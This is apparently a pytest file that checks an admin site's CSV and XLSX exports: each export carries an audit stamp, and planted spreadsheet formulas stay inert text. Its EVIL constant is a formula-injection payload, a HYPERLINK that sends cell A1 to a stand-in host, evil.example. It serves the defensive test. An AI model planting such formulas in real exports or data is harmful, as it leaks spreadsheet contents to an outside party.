"""Exported files carry their stamp and never a live formula (S4): every export route is
walked with a formula planted in the data and in the purpose."""

from __future__ import annotations

import io
from datetime import timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from domain.models import BusinessType, Org
from domain.platform.clock import utcnow
from domain.platform.exports import FORMULA_STARTS, STAMP_MARK, inert
from tests.admin_support import admin_site, demo_log_in, site_config, submit, zh
from tests.export_support import after_stamp, csv_lines, stamp_of, xlsx_lines

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ZONE_NAME = "Asia/Shanghai"
# the exported lists that cover a period (the others are exported as they stand)
PERIOD_LISTS = {"cases_export", "incidents_export", "voucher_journal_export", "audit_export"}


def export_forms() -> dict[str, tuple[str, dict[str, str]]]:
    """Each export route by name: its page and the filter a user submits."""
    today = utcnow().date()
    start, end = (today - timedelta(days=40)).isoformat(), (today + timedelta(days=10)).isoformat()
    return {
        "voucher_reconciliation_export": (
            "/vouchers/reconciliation", {"month": today.strftime("%Y-%m")}),
        "case_audit_report_export": ("/case-audits/report", {"from": start, "to": end}),
        "callback_report_export": ("/callbacks/report",
                                   {"start": start, "end": end, "by": "org"}),
    } | {f"{name}_export": (page, {"query": "", "start": start, "end": end}) for name, page in (
        ("devices", "/devices"), ("staff", "/staff"), ("qualifications", "/qualifications"),
        ("cases", "/cases"), ("incidents", "/incidents"),
        ("voucher_journal", "/vouchers/journal"), ("audit", "/audit"))}


async def plant_formulas() -> None:
    """A formula where a name belongs, as a careless or hostile admin could type it."""
    for org in await Org.all():
        org.name = f'{EVIL[:-8]}"{org.code}")'
        await org.save(update_fields=["name"])
    await BusinessType.all().update(name_zh=EVIL, name_en=EVIL)


@pytest.mark.parametrize("starts", FORMULA_STARTS)
def test_a_cell_that_starts_like_a_formula_stays_text(starts: str) -> None:
    assert inert(f"{starts}1+1") == f"'{starts}1+1"
    assert inert("F001 =1+1") == "F001 =1+1" and inert(-5) == -5


async def test_every_export_keeps_planted_formulas_as_text(every_kind_media: Path) -> None:
    await plant_formulas()
    files: dict[tuple[str, str], bytes] = {}
    async with admin_site(site_config(every_kind_media)) as client:
        await demo_log_in(client, "auditor")
        app = client.server.app
        assert app is not None
        routes = {name for name in app.router.named_resources() if name.endswith("_export")}
        forms = export_forms()
        assert routes == set(forms), "an export route without a test"
        for name, (page, form) in forms.items():
            url = app.router[name].url_for().path
            for fmt in ("csv", "xlsx"):
                response = await submit(client, url, form | {"purpose": EVIL, "fmt": fmt},
                                        page=page)
                assert response.status == 200, (name, fmt, await response.text())
                files[(name, fmt)] = await response.read()
    planted_names = 0
    for (name, fmt), body in files.items():
        lines = csv_lines(body) if fmt == "csv" else xlsx_lines(body)
        cells = [cell for line in lines for cell in line if isinstance(cell, str)]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], (name, fmt)
        assert stamp_of(lines)[zh("Purpose")] == "'" + EVIL
        planted_names += sum(cell.startswith("'=HYPERLINK(") for cell in cells) - 1
        if fmt == "xlsx":
            sheet = openpyxl.load_workbook(io.BytesIO(body)).active
            assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert planted_names > 0


async def test_every_export_states_who_when_the_filter_and_the_purpose(
    every_kind_media: Path,
) -> None:
    async with admin_site(site_config(every_kind_media)) as client:
        await demo_log_in(client, "auditor")
        app = client.server.app
        assert app is not None
        stamps, tables, headings = {}, {}, {}
        for name, (page, form) in export_forms().items():
            url = app.router[name].url_for().path
            for fmt in ("csv", "xlsx"):
                response = await submit(client, url, form | {"purpose": "年度稽核", "fmt": fmt},
                                        page=page)
                body = await response.read()
                lines = csv_lines(body) if fmt == "csv" else xlsx_lines(body)
                stamps[(name, fmt)], tables[(name, fmt)] = stamp_of(lines), after_stamp(lines)
                headings[(name, fmt)] = lines[0][0]
    today = utcnow().astimezone(ZoneInfo(ZONE_NAME)).date().isoformat()
    for (name, fmt), stamp in stamps.items():
        period = [zh("Period")] if name in PERIOD_LISTS else []
        assert list(stamp) == [zh("Exported by"), zh("Exported at"), *period, zh("Filter"),
                               zh("Purpose")], (name, fmt)
        assert stamp[zh("Exported by")] == "E0004 李稽核"
        assert str(stamp[zh("Exported at")]).startswith(today)
        assert str(stamp[zh("Exported at")]).endswith(f"({ZONE_NAME})")
        assert stamp[zh("Purpose")] == "年度稽核"
        # the audit log's XLSX holds the audit row of its CSV export, made just before
        written = int(name == "audit_export" and fmt == "xlsx")
        assert len(tables[(name, fmt)]) == len(tables[(name, "csv")]) + written
    # an XLSX file opens with its report's name; a CSV file with its stamp
    assert all(not str(heading).startswith(STAMP_MARK) for (_name, fmt), heading
               in headings.items() if fmt == "xlsx")
    assert headings[("voucher_reconciliation_export", "xlsx")] == zh("Monthly reconciliation")
    assert all(str(heading).startswith(STAMP_MARK) for (_name, fmt), heading
               in headings.items() if fmt == "csv")
    month = export_forms()["voucher_reconciliation_export"][1]["month"]
    assert stamps[("voucher_reconciliation_export", "csv")][zh("Filter")] == (
        f"{zh('Month')}: {month}")
    start, end = (export_forms()["callback_report_export"][1][key] for key in ("start", "end"))
    assert stamps[("callback_report_export", "xlsx")][zh("Filter")] == (
        f"{zh('From')}: {start}; {zh('To')}: {end}; {zh('Group by')}: {zh('Organisation')}")
